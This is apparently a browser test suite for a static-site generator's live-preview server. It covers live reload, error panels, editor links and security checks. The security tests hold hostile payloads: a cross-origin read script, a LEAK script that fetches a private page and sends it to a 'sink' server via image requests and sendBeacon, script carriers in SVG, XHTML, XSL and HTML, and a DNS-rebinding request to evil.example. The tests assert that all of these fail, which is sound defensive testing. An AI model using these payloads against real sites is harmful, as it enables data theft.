"""The real preview in a real browser: what is saved is seen, and nobody else sees it."""

from __future__ import annotations

import io
import re
import struct
import threading
import wave
import zlib
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from client_server import until as wait_for
from quality.browsing import CHROMIUM, chromium
from serve_process import BASE, CONFIG, FILE, PATH, REPOSITORY, TEXT, Serving, serving, write
from sites import write_site

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

PATIENCE = 30_000
"""Milliseconds after which something that has not happened never will."""

LINES = [f"Paragraph {number} tells how the planner reads its statistics. " * 3 for number in range(60)]
LONG = TEXT.partition("The planner")[0] + "\n\n".join(LINES) + "\n"
DETAILS = "<details>\n<summary>More</summary>\n\nHidden words.\n\n</details>\n"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture
def wrong() -> list[str]:
    """What browsers complain of; nothing may be left in the end."""
    return []


@pytest.fixture
def tab(browser: Browser, wrong: list[str]) -> Iterator[Page]:
    with opened(browser, wrong) as page:
        yield page
    assert wrong == []


@contextmanager
def opened(browser: Browser, wrong: list[str]) -> Iterator[Page]:
    """A tab in a window of its own."""
    context = browser.new_context(viewport={"width": 1000, "height": 700}, reduced_motion="reduce")
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda said: wrong.append(said.text) if said.type in {"error", "warning"} else None)
    yield page
    context.close()


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return write(tmp_path / "site", **{FILE: LONG})


@pytest.fixture
def running(root: Path) -> Iterator[Serving]:
    with serving(root) as found:
        yield found
        assert "Traceback" not in found.told()


def visit(tab: Page, running: Serving, path: str = PATH) -> None:
    """Go to a page, and wait until its script listens. The marker is gone when the page is loaded anew."""
    with tab.expect_response(lambda answer: "/__devlog__/events" in answer.url):
        tab.goto(f"http://127.0.0.1:{running.port}{path}")
    tab.evaluate("window.marker = 'here'")


def stayed(tab: Page) -> bool:
    return bool(tab.evaluate("window.marker === 'here'"))


def becomes(tab: Page, expression: str) -> None:
    tab.wait_for_function(f"() => {expression}", timeout=PATIENCE)


def has_text(tab: Page, text: str) -> None:
    becomes(tab, f"document.body.textContent.includes({text!r})")


# --- edits ---


def test_a_text_appears_in_its_place(running: Serving, tab: Page, root: Path) -> None:
    running.write(FILE, LONG + f"\n{DETAILS}\n" + LONG.rpartition("---\n")[2].replace("Paragraph", "Passage"))
    running.until_page("Passage 59")
    visit(tab, running)
    has_text(tab, "Passage 59")
    tab.locator("details summary").click()
    tab.evaluate("scrollTo(0, document.querySelector('details').offsetTop - 100)")
    place = tab.evaluate("scrollY")
    assert place > 1000
    tab.evaluate("window.marker = 'here'")
    running.edit("Hidden words.", "Words that are new.")
    has_text(tab, "Words that are new.")
    assert tab.evaluate("scrollY") == place
    assert tab.evaluate("document.querySelector('details').open")
    running.edit("Passage 0 tells", "Passage 0 says")
    has_text(tab, "Passage 0 says")
    assert tab.evaluate("scrollY") == place
    running.edit("title: Under the log", "title: Over the log")
    becomes(tab, "document.title.includes('Over the log')")
    assert tab.locator("h1").inner_text() == "Over the log"
    assert stayed(tab)


def test_pages_with_a_policy_of_their_own_follow(root: Path, tab: Page) -> None:
    write_site(root, {"devlog.toml": CONFIG + "content_security_policy = true\n"})
    with serving(root) as running:
        visit(tab, running)
        assert tab.locator("meta[http-equiv='Content-Security-Policy']").count() == 1
        running.edit("title: Under the log", "title: Over the log")
        becomes(tab, "document.title.includes('Over the log')")
        running.edit("date: 2026-05-04", "date: never")
        tab.get_by_text("never").first.wait_for()
        assert stayed(tab)
        tab.goto("about:blank")  # before the server is gone


def test_an_open_search_finds_what_has_changed(running: Serving, tab: Page) -> None:
    def finds(word: str, title: str) -> None:
        tab.locator("dialog .search-field").fill(word)
        titles = "[...document.querySelectorAll('dialog .search-title')].map((one) => one.textContent)"
        becomes(tab, f"{titles}.includes({title!r})")

    visit(tab, running)
    tab.keyboard.press("/")
    finds("statistics", "Under the log")
    tab.evaluate("addEventListener('devlog:change', () => { window.changed = true; })")
    new = LONG.replace("title: Under", "title: Beside").replace("Paragraph", "Quagga")
    running.write(FILE.replace("-a.md", "-new.md"), new)
    becomes(tab, "window.changed")
    finds("quagga", "Beside the log")
    running.edit("title: Under the log", "title: Over the log")
    becomes(tab, "document.title.includes('Over the log')")
    finds("statistics", "Over the log")
    assert stayed(tab)


def test_the_filters_of_an_open_search_follow(running: Serving, tab: Page) -> None:
    tags = tab.locator("dialog [name=tag]")

    def offers(*expected: str) -> None:
        options = "[...document.querySelectorAll('dialog [name=tag] option')].slice(1).map((one) => one.text).sort()"
        becomes(tab, f"{options}.join() === {','.join(expected)!r}")

    running.write(FILE.replace("-a.md", "-b.md"), LONG.replace("[storage]", "[storage, wal]"))
    visit(tab, running)
    tab.keyboard.press("/")
    offers("storage (3)", "wal (1)")
    tags.select_option(label="wal (1)")
    becomes(tab, "document.querySelectorAll('dialog .search-title').length === 1")
    running.edit("[storage]", "[log, wal]")
    offers("log (1)", "storage (2)", "wal (2)")
    assert tags.evaluate("select => select.selectedOptions[0].text") == "wal (2)"
    assert stayed(tab)


def test_lists_follow(running: Serving, tab: Page) -> None:
    visit(tab, running, BASE)
    running.edit("title: Under the log", "title: Over the log")
    has_text(tab, "Over the log")
    running.write("content/kernels/2026-06-01-new.md", TEXT.replace("Under the log", "A new log"))
    has_text(tab, "A new log")
    (running.root / "content/kernels/2026-06-01-new.md").unlink()
    becomes(tab, "!document.body.textContent.includes('A new log')")
    assert stayed(tab)


@pytest.mark.parametrize("kind", ["site", "theme"])
def test_styles_are_swapped(browser: Browser, wrong: list[str], root: Path, kind: str) -> None:
    default = REPOSITORY / "themes/default"
    if kind == "site":
        file = "static/extra.css"
        base = (default / "templates/base.html").read_text("utf-8")
        link = f'<link rel="stylesheet" href="{BASE}extra.css">\n</head>'
        write_site(root, {"templates/base.html": base.replace("</head>", link)})
    else:
        file = "themes/plain/static/style.css"
        write_site(
            root,
            {
                "devlog.toml": CONFIG + 'theme = "plain"\n',
                "themes/plain/theme.toml": 'name = "plain"\nextends = "default"\n',
                file: (default / "static/style.css").read_text("utf-8") + "body { color: rgb(1, 1, 1) }\n",
            },
        )
    color = "getComputedStyle(document.body).color"
    with serving(root) as running, opened(browser, wrong) as tab:
        visit(tab, running)
        becomes(tab, f"{color} === 'rgb(1, 1, 1)'")
        tab.evaluate("scrollTo(0, 900)")
        for shade in (2, 3):
            running.edit(f"body {{ color: rgb({shade - 1}, ", f"body {{ color: rgb({shade}, ", file)
            becomes(tab, f"{color} === 'rgb({shade}, 1, 1)'")
        assert tab.evaluate("scrollY") == 900
        assert stayed(tab)
    assert wrong == []


def test_only_the_tab_whose_page_changed_acts(running: Serving, tab: Page, browser: Browser, wrong: list[str]) -> None:
    asked: list[str] = []
    other = f"{BASE}kernels/2026-05-05-b/"
    with opened(browser, wrong) as second:
        visit(tab, running)
        visit(second, running, other)
        watch = "new MutationObserver(() => { window.touched = true }).observe(document.documentElement, ALL)"
        every = "{subtree: true, childList: true, characterData: true, attributes: true}"
        second.on("request", lambda request: asked.append(request.url))
        has_text(second, "Another log")
        second.evaluate(watch.replace("ALL", every))
        running.edit("Paragraph 3 tells", "Paragraph 3 says")
        has_text(tab, "Paragraph 3 says")
        running.edit("for a day", "for a week", "content/kernels/2026-05-05-b.md")
        has_text(second, "for a week")
        pages = [url for url in asked if "/__devlog__/" not in url]
        assert pages == [f"http://127.0.0.1:{running.port}{other}"] * len(pages)
        assert 1 <= len(pages) <= 2
        assert stayed(tab)
        assert stayed(second)


def test_the_page_goes_to_what_was_edited(running: Serving, tab: Page) -> None:
    visit(tab, running)
    running.edit("Paragraph 50 tells", "Paragraph 50 says")
    has_text(tab, "Paragraph 50 says")
    seen = "[...document.querySelectorAll('p')].some(p => p.textContent.startsWith('Paragraph NN') && IN(p))"
    inside = "p.getBoundingClientRect().bottom > 0 && p.getBoundingClientRect().top < innerHeight"
    becomes(tab, seen.replace("NN", "50").replace("IN(p)", inside))
    running.write("devlog.toml", CONFIG + "[serve]\nscroll = false\n")
    running.until_told(r"devlog\.toml · ")
    place = tab.evaluate("scrollY")
    running.edit("Paragraph 1 tells", "Paragraph 1 says")
    has_text(tab, "Paragraph 1 says")
    running.edit("Paragraph 50 says", "Paragraph 50 adds")
    has_text(tab, "Paragraph 50 adds")
    assert tab.evaluate("scrollY") == place
    assert stayed(tab)


def test_states_have_a_ribbon(running: Serving, tab: Page) -> None:
    visit(tab, running)
    ribbon = tab.locator("devlog-ribbon p")
    assert ribbon.count() == 0
    running.edit("tags:", "draft: true\ntags:")
    ribbon.wait_for()
    assert ribbon.inner_text() == "Draft"
    running.edit("draft: true\n", "")
    ribbon.wait_for(state="detached")
    running.edit("date: 2026-05-04", "date: 2999-01-01")
    ribbon.wait_for()
    assert re.search("2999-01-01", ribbon.inner_text())
    assert stayed(tab)


def test_a_page_that_comes_goes_and_comes_back(running: Serving, browser: Browser) -> None:
    wrong: list[str] = []
    with opened(browser, wrong) as tab:
        path = f"{BASE}kernels/2026-06-01-new/"
        visit(tab, running, path)
        assert tab.locator("body").get_attribute("class") == "kind-404"
        for _ in range(2):
            running.write("content/kernels/2026-06-01-new.md", TEXT.replace("Under the log", "A new log"))
            becomes(tab, "document.querySelector('h1')?.textContent.trim() === 'A new log'")
            (running.root / "content/kernels/2026-06-01-new.md").unlink()
            becomes(tab, "document.body.className === 'kind-404'")
    assert all("404" in text for text in wrong), wrong


def test_a_page_whose_file_is_renamed_stays(running: Serving, tab: Page) -> None:
    visit(tab, running)
    tab.evaluate("scrollTo(0, 900)")
    (running.root / FILE).rename(running.root / "content/kernels/2026-05-04-über cuts.md")
    becomes(tab, f"decodeURI(location.pathname) === '{BASE}kernels/2026-05-04-über-cuts/'")
    running.write("content/kernels/2026-05-04-über cuts.md", LONG.replace("Paragraph 20 ", "Passage 20 "))
    has_text(tab, "Passage 20 ")
    assert tab.evaluate("scrollY") > 0
    assert stayed(tab)


# --- mistakes ---


def test_mistakes_are_shown_and_go(running: Serving, tab: Page) -> None:
    visit(tab, running)
    panel = tab.locator("devlog-overlay .panel")
    running.edit("title: Under the log", "title: [Under the log")
    panel.wait_for()
    assert tab.locator("devlog-overlay .path").first.inner_text().startswith(f"{FILE}:2")
    assert tab.locator("devlog-overlay .source").first.text_content() == "title: [Under the log"
    assert tab.locator("devlog-overlay .line").first.inner_text() == "2"
    has_text(tab, "Paragraph 59")
    running.edit("title: [Under the log", "title: Under the log")
    panel.wait_for(state="hidden")
    running.write(
        "templates/post.html", "{% extends 'base.html' %}\n{% block main %}\n{{ no thing }}\n{% endblock %}\n"
    )
    panel.wait_for()
    assert tab.locator("devlog-overlay .path").first.inner_text().startswith("templates/post.html:3")
    assert tab.locator("devlog-overlay .source").first.text_content() == "{{ no thing }}"
    (running.root / "templates/post.html").unlink()
    panel.wait_for(state="hidden")
    running.write("devlog.toml", 'title = "Lum\n')
    panel.wait_for()
    assert tab.locator("devlog-overlay .path").first.inner_text().startswith("devlog.toml:1")
    running.write("devlog.toml", CONFIG)
    panel.wait_for(state="hidden")
    assert stayed(tab)


def test_a_site_that_begins_broken(browser: Browser, root: Path) -> None:
    wrong: list[str] = []
    write_site(root, {"templates/base.html": "{% if %}"})
    with serving(root) as running, opened(browser, wrong) as tab:
        visit(tab, running)
        tab.locator("devlog-overlay .panel").wait_for()
        assert tab.locator("devlog-overlay .path").first.inner_text().startswith("templates/base.html:1")
        (root / "templates/base.html").unlink()
        has_text(tab, "Paragraph 59")
        tab.locator("devlog-overlay .panel").wait_for(state="hidden")
    assert all("503" in text for text in wrong), wrong


def test_the_preview_comes_back(browser: Browser, root: Path) -> None:
    wrong: list[str] = []
    with opened(browser, wrong) as tab:
        with serving(root) as running:
            port = str(running.port)
            visit(tab, running)
            running.edit("Paragraph 0 tells", "Paragraph 0 says")
            has_text(tab, "Paragraph 0 says")
            running.kill()
        running.edit("Paragraph 1 tells", "Paragraph 1 says")
        with serving(root, "--port", port) as again:
            assert str(again.port) == port
            has_text(tab, "Paragraph 1 says")
            again.edit("Paragraph 2 tells", "Paragraph 2 says")
            has_text(tab, "Paragraph 2 says")
            assert stayed(tab)
    assert all("net::ERR_" in text for text in wrong), wrong


# --- the way to the editor ---

MARKED = """\
---
title: Marks
date: 2026-05-04
---

First paragraph.

## Second, a heading

- third, in a list
- fourth

<div class="x" onclick="alert(1)"><b>Fifth</b>, raw HTML<script>alert(2)</script></div>

```python
sixth = 6
```

> Seventh, quoted.

| Eighth | table |
|---|---|
| a | b |

Ninth[^n] paragraph
goes on here.

[^n]: Tenth, a note.
"""


@pytest.mark.parametrize("html", ["safe", "trusted", "escape"])
def test_marks_have_the_lines_of_the_source(browser: Browser, root: Path, html: str) -> None:
    serve = '[serve]\neditor = "vscode://file/{path}:{line}"\n'
    write_site(root, {"devlog.toml": CONFIG + f'html = "{html}"\n' + serve, FILE: MARKED})
    wrong: list[str] = []
    with serving(root) as running, opened(browser, wrong) as tab:
        tab.set_viewport_size({"width": 1000, "height": 2500})
        tab.goto(f"http://127.0.0.1:{running.port}{PATH}")
        expected = {"First", "Second", "third", "sixth", "Seventh", "Eighth", "Ninth1"}
        expected |= set() if html == "escape" else {"Fifth"}
        assert lines_by_mark(tab, root) >= {(word, line_of(MARKED, word)) for word in expected}
        moved = MARKED.replace("First paragraph.", "A word before.\n\nAnother\nword.\n\nFirst paragraph.")
        running.write(FILE, moved)
        has_text(tab, "A word before.")
        last = line_of(moved, "Ninth1")
        tab.locator(f"devlog-marks a[href$=':{last}']").wait_for(state="attached")
        assert lines_by_mark(tab, root) >= {(word, line_of(moved, word)) for word in expected}
    assert all("Content Security Policy" in text for text in wrong), wrong


def line_of(text: str, word: str) -> int:
    """Where a word stands; a block of code begins a line above it."""
    lines = text.split("\n")
    number = next(number for number, line in enumerate(lines) if word.rstrip("1") in line)
    return number if word == "sixth" else number + 1


def lines_by_mark(tab: Page, root: Path) -> set[tuple[str, int]]:
    """The first word of the block beside each mark, and the line that the mark leads to."""
    tab.locator("devlog-marks a").first.wait_for(state="attached")
    found = tab.evaluate("""() => {
      const blocks = [...document.querySelectorAll(".e-content *")].filter(e => e.textContent.trim());
      return [...document.querySelector("devlog-marks").shadowRoot.querySelectorAll("a")].map(link => {
        const top = parseFloat(link.style.top);
        const beside = blocks.filter(e => {
          const distance = top - (e.getBoundingClientRect().top + scrollY);
          return Math.abs(distance - 3) < 1 || Math.abs(distance + 20) < 1;
        });
        return [beside.map(e => e.textContent.trim().split(/\\W/)[0]), link.getAttribute("href")];
      });
    }""")
    prefix = f"vscode://file/{str(root / FILE).lstrip('/')}:"
    assert found
    pairs = set()
    for words, href in found:
        assert href.startswith(prefix), href
        pairs |= {(word, int(href.removeprefix(prefix))) for word in words}
    return pairs


def test_no_marks_by_default(running: Serving, tab: Page) -> None:
    visit(tab, running)
    running.edit("Paragraph 0 tells", "Paragraph 0 says")
    has_text(tab, "Paragraph 0 says")
    assert tab.locator("devlog-marks").count() == 0


# --- what the theme needs ---

KINDS = {
    "content/kernels/2026-05-07-all.md": """\
---
title: All that a text may have
date: 2026-05-07
author: "Ada Quill (@adaquill), Bo Reed (@boreed)"
tags: [storage, memory]
---

Text with a note[^a], `code` and an image: ![A dot](dot.svg)

> [!NOTE]
> An alert.

## Code

```python
rows = [row for row in table]
```

## Tables

| a | b |
|--:|:--|
| 1 | 2 |

## Lists

- [x] done
- [ ] not yet

<details><summary>More</summary>Hidden.</details>

[^a]: The note.
""",
    "content/kernels/dot.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"></svg>',
    "content/about.md": "---\ntitle: About\n---\n\nAbout the Lumen team.\n",
}


def test_every_kind_of_page_keeps_the_policy(browser: Browser, root: Path) -> None:
    wrong: list[str] = []
    write_site(root, KINDS)
    paths = (
        "",
        "kernels/",
        "kernels/2026-05-07-all/",
        "authors/",
        "authors/adaquill/",
        "tags/",
        "tags/storage/",
        "about/",
    )
    with serving(root) as running, opened(browser, wrong) as tab:
        seen = set()
        for path in (*paths, "archive/", "nothing/"):
            answer = tab.goto(f"http://127.0.0.1:{running.port}{BASE}{path}")
            assert answer
            assert answer.status == (404 if path == "nothing/" else 200), path
            wait_for(lambda: tab.evaluate("document.readyState") == "complete", "loading")
            seen.add(tab.evaluate("document.body.className"))
            tab.locator(".theme-switch").click()
        assert len(seen) >= 8, seen
    assert [text for text in wrong if "404" not in text] == []


# --- other sites ---

ATTACK = """\
<!doctype html><title>Elsewhere</title><body><script>
const target = TARGET, page = target + PAGE;
const tries = {
  cors: () => fetch(page).then((r) => r.text()),
  credentials: () => fetch(page, {credentials: "include"}).then((r) => r.text()),
  nocors: () => fetch(page, {mode: "no-cors"}).then((r) => r.text().then((text) => text || Promise.reject("opaque"))),
  script: () => load("script", "src", target + "/__devlog__/live.js"),
  module: () => load("script", "src", target + "/__devlog__/live.js", {type: "module"}),
  pageScript: () => load("script", "src", page),
  image: () => load("img", "src", target + BASE + "dot.svg"),
  style: () => load("link", "href", target + BASE + "extra.css", {rel: "stylesheet"}),
  object: () => load("object", "data", page),
  video: () => load("video", "src", target + BASE + "talk.mp3", {}, "loadeddata"),
  frame: () => load("iframe", "src", page).then((frame) => frame.contentDocument.body.textContent),
  stream: () => new Promise((good, bad) => {
    const stream = new EventSource(target + "/__devlog__/events?page=" + PAGE);
    stream.addEventListener("update", (event) => good(event.data));
    stream.addEventListener("error", () => (stream.close(), bad("refused")));
  }),
  xhr: () => new Promise((good, bad) => {
    const request = new XMLHttpRequest();
    request.open("GET", page);
    request.onload = () => good(request.responseText);
    request.onerror = () => bad("refused");
    request.send();
  }),
};
function load(name, attribute, url, more = {}, event = "load") {
  return new Promise((good, bad) => {
    const element = Object.assign(document.createElement(name), more);
    element.addEventListener(event, () => good(element));
    element.addEventListener("error", () => bad("refused"));
    element[attribute] = url;
    document.body.append(element);
    setTimeout(bad, 5000, "nothing came");
  });
}
async function run() {
  const got = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const value = await attempt();
      got[name] = typeof value === "string" ? value : "loaded";
    } catch (error) {
      got[name] = null;
    }
  }
  return got;
}
</script>
"""


@pytest.fixture
def elsewhere() -> Iterator[Any]:
    """A server of somebody else, which answers everything with one page."""

    class Handler(BaseHTTPRequestHandler):
        html = b""

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(type(self).html)

        def log_message(self, *words: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize("other", ["127.0.0.1", "localhost"])
def test_other_sites_see_nothing(browser: Browser, root: Path, elsewhere: Any, other: str) -> None:
    write_site(root, {"static/dot.svg": KINDS["content/kernels/dot.svg"], "static/talk.mp3": b"ID3" + bytes(400)})
    with serving(root) as running, opened(browser, []) as tab:
        target = f"http://127.0.0.1:{running.port}"
        facts = {"TARGET": target, "PAGE": PATH, "BASE": BASE}
        html = ATTACK
        for name, value in facts.items():
            html = re.sub(rf"\b{name}\b", repr(value), html)
        elsewhere.RequestHandlerClass.html = html.encode()
        tab.goto(f"http://{other}:{elsewhere.server_address[1]}/")
        got = tab.evaluate("run()")
        assert len(got) == 13
        assert {name: value for name, value in got.items() if value is not None} == {}
        # That is because of the preview, and not because the attempts are no good.
        elsewhere.RequestHandlerClass.html = html.replace(f"target = {target!r}", "target = location.origin").encode()
        tab.reload()
        got = tab.evaluate("run()")
        assert {"cors", "credentials", "nocors", "script", "pageScript", "frame", "xhr"} <= {
            name for name, value in got.items() if value
        }
        # A window may be opened, as by a link, and shows the page to the reader; nobody else can look into it.
        with tab.context.expect_page() as popup:
            tab.evaluate(f"window.other = window.open({target + PATH!r}); 0")
        popup.value.wait_for_function("() => document.body?.textContent.includes('Paragraph 59')", timeout=PATIENCE)
        seen = """() => { try { return window.other.document.body.textContent } catch (error) { return null } }"""
        assert tab.evaluate(seen) is None
        assert tab.evaluate("window.other.closed || window.other.length") in {True, 0}
        # The same attempts from the preview itself come through: it is the origin that counts.
        tab.goto(target + PATH)
        assert tab.evaluate(f"fetch({PATH!r}).then(r => r.text()).then(t => t.includes('Paragraph 59'))")
        assert tab.evaluate("""() => new Promise(good => {
          const stream = new EventSource('/__devlog__/events?page=/devlogs/');
          stream.addEventListener('update', () => (stream.close(), good(true)));
        })""")


# --- files that somebody put beside a post ---

LEAK = """\
(async () => {
  const text = await (await fetch(SECRET)).text();
  new Image().src = SINK + "?" + encodeURIComponent(text.includes("for a day") ? "read" : "nothing");
  navigator.sendBeacon(SINK + "?beacon");
})();
new Image().src = SINK + "?ran";
"""
SECRET = f"{BASE}kernels/2026-05-05-b/"
CARRIERS = {
    "a.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script href="demo.js"/></svg>',
    "handler.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="CODE"></svg>',
    "inline.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>CODE</script></svg>',
    "a.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="demo.js"></script></head><body/></html>',
    "a.html": '<!doctype html><body><script src="demo.js"></script><img src="x:" onerror="CODE">',
    "a.xml": '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script src="demo.js"/></x:html>',
    "page.xsl.xml": '<?xml-stylesheet type="text/xsl" href="page.xsl"?><a/>',
    "page.xsl": (
        '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
        '<html xmlns="http://www.w3.org/1999/xhtml"><script src="demo.js"></script></html></x:template></x:stylesheet>'
    ),
    "frame.html": f'<!doctype html><body><iframe src="{BASE}a.html"></iframe><object data="{BASE}a.svg"></object>',
    "refresh.html": f'<!doctype html><meta http-equiv="refresh" content="0;url={BASE}a.html">',
    "form.html": '<!doctype html><body><form action="SINK"></form>',
    "noending": '<!doctype html><script src="demo.js"></script>',
}


def sink_of(server: Any) -> tuple[str, list[str]]:
    """The address of somebody else's server, and what it is asked."""
    asked: list[str] = []
    handler = server.RequestHandlerClass

    def note(self: Any, *_: Any) -> None:
        asked.append(self.path)

    handler.log_request = note
    return f"http://127.0.0.1:{server.server_address[1]}/sink", asked


@pytest.mark.parametrize("folder", ["static", "content"])
def test_attachments_run_nothing(browser: Browser, root: Path, elsewhere: Any, folder: str) -> None:
    sink, asked = sink_of(elsewhere)
    code = LEAK.replace("SECRET", repr(SECRET)).replace("SINK", repr(sink))
    inline = code.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    files = {name: text.replace("CODE", inline).replace("SINK", sink) for name, text in CARRIERS.items()}
    wrong: list[str] = []
    write_site(root, {f"{folder}/{name}": text for name, text in {**files, "demo.js": code}.items()})
    write_site(root, {"devlog.toml": CONFIG + 'html = "trusted"\n'})  # else those of the content are not even published
    with serving(root) as running, opened(browser, wrong) as tab:
        for name in CARRIERS:
            with suppress(Exception):  # what is no page of its own is saved instead
                tab.goto(f"http://127.0.0.1:{running.port}{BASE}{name}")
            tab.wait_for_timeout(300)
            assert asked == [], name
        # It is no matter of the file's text: somebody else's server, which says nothing, has it run.
        elsewhere.RequestHandlerClass.html = f"<!doctype html><script>{code}</script>".encode()
        tab.goto(sink.replace("/sink", "/"))
        wait_for(lambda: any("ran" in path for path in asked), "the script itself")


def test_pages_run_no_attachments(browser: Browser, root: Path, elsewhere: Any) -> None:
    """Whatever gets into a page: not even a template that lets a post's own HTML through brings scripts of the site."""
    sink, asked = sink_of(elsewhere)
    code = LEAK.replace("SECRET", repr(SECRET)).replace("SINK", repr(sink))
    base = (REPOSITORY / "themes/default/templates/base.html").read_text("utf-8")
    injected = "<script src=\"{{ site.url ~ 'demo' ~ '.js' }}\"></script><img src='x:' onerror='fetch(0)'></body>"
    write_site(root, {"static/demo.js": code, "templates/base.html": base.replace("</body>", injected)})
    wrong: list[str] = []
    with serving(root) as running, opened(browser, wrong) as tab:
        visit(tab, running)
        has_text(tab, "Paragraph 59")
        wait_for(lambda: any("Content Security Policy" in text for text in wrong), "the refusal")
        assert any("demo.js" in text for text in wrong), wrong
        assert asked == []


def wave_file() -> bytes:
    """A second of silence."""
    written = io.BytesIO()
    with wave.open(written, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(1)
        file.setframerate(8000)
        file.writeframes(bytes([128]) * 8000)
    return written.getvalue()


def picture() -> bytes:
    """Seven black pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 7, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(8))) + chunk(b"IEND", b"")


def test_media_are_shown_and_played(browser: Browser, root: Path) -> None:
    """Opened by themselves too, though browsers make pages of them."""
    sound = wave_file()
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="60"><style>rect { fill: red }</style><rect/></svg>'
    )
    write_site(root, {"static/a.svg": svg, "static/a.png": picture(), "static/a.wav": sound})
    wrong: list[str] = []
    with serving(root) as running, opened(browser, wrong) as tab:
        base = f"http://127.0.0.1:{running.port}{BASE}"
        tab.goto(f"{base}a.png")
        assert tab.evaluate("document.images[0].naturalWidth") == 7
        tab.goto(f"{base}a.wav")
        tab.wait_for_function("() => document.querySelector('video, audio').duration > 0.9", timeout=PATIENCE)
        tab.evaluate("document.querySelector('video, audio').currentTime = 0.5")
        tab.wait_for_function("() => document.querySelector('video, audio').currentTime >= 0.5", timeout=PATIENCE)
        tab.goto(f"{base}a.svg")
        assert tab.evaluate("getComputedStyle(document.querySelector('rect')).fill") == "rgb(255, 0, 0)"
    assert wrong == []


@pytest.mark.parametrize("feed", ["index.xml", "feed.xml"])
def test_feeds_have_their_style_sheet(running: Serving, tab: Page, feed: str) -> None:
    tab.goto(f"http://127.0.0.1:{running.port}{BASE}{feed}")
    becomes(tab, "getComputedStyle(document.querySelector('item, entry')).display === 'flex'")


def test_images_of_other_hosts_are_shown_where_a_page_names_them(browser: Browser, root: Path, elsewhere: Any) -> None:
    sink, asked = sink_of(elsewhere)
    remote = sink.replace("/sink", "/remote.png")
    wrong: list[str] = []
    with serving(root) as running, opened(browser, wrong) as tab:
        visit(tab, running)
        tab.evaluate("url => { new Image().src = url }", sink)
        wait_for(lambda: any("Content Security Policy" in text for text in wrong), "the refusal")
        assert asked == []
        running.write(FILE, LONG + f"\n![Remote]({remote})\n")
        becomes(tab, "document.querySelector('.e-content img') !== null")
        tab.evaluate("scrollTo(0, 1e9)")  # images wait until they are near
        wait_for(lambda: bool(asked), "the picture")
        assert {path.partition("?")[0] for path in asked} == {"/remote.png"}


def test_another_name_for_this_machine(running: Serving, browser: Browser) -> None:
    """A name of somebody else's that is made to lead here is not answered."""
    context = browser.browser_type.launch(
        executable_path=str(CHROMIUM), args=["--no-sandbox", "--host-resolver-rules=MAP * 127.0.0.1"]
    )
    page = context.new_page()
    answer = page.goto(f"http://evil.example:{running.port}{PATH}")
    assert answer
    assert answer.status == 421
    assert "Paragraph" not in page.content()
    context.close()
